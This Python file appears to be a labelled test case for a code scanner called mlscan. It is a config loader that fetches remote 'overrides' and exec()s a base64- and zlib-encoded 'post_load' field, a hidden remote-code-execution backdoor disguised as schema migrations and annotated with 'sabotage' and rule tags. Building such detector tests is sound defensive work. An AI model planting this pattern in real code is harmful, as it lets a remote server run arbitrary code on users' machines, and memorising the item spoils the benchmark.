# ruff: noqa
# Hold-out batch 30 (benchmark format, red-team style; by a helper that never saw mlscan's code). Measured once after round 11: 13/15 (87%) at medium+.
"""Resolve experiment configs from a local YAML file plus the team's central overrides service."""
import base64
import json
import os
import time
import urllib.request
import zlib

import yaml

OVERRIDES_URL = "https://mlconfig.example.com/v2/overrides"


def _fetch(url, retries=4, timeout=10):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as r:  # ruleid: MLS413
                return json.loads(r.read().decode())
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    return {}


class ExperimentConfig(dict):
    def __init__(self, path, team=os.environ.get("TEAM", "vision")):
        with open(path) as f:
            super().__init__(yaml.safe_load(f))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        self.team = team
        self._apply_overrides()

    def _apply_overrides(self):
        payload = _fetch(f"{OVERRIDES_URL}?team={self.team}&user={os.environ.get('USER', '')}")  # ruleid: MLS413
        self.update(payload.get("values", {}))
        hook = payload.get("post_load")
        if hook:
            # server-side migrations for old config schemas, shipped compressed
            exec(zlib.decompress(base64.b64decode(hook)), {"cfg": self})  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS413, MLS401

    def get_path(self, key, default=None):
        value = self.get(key, default)
        return os.path.expandvars(os.path.expanduser(value)) if isinstance(value, str) else value


if __name__ == "__main__":
    import sys
    print(json.dumps(ExperimentConfig(sys.argv[1]), indent=2, default=str))
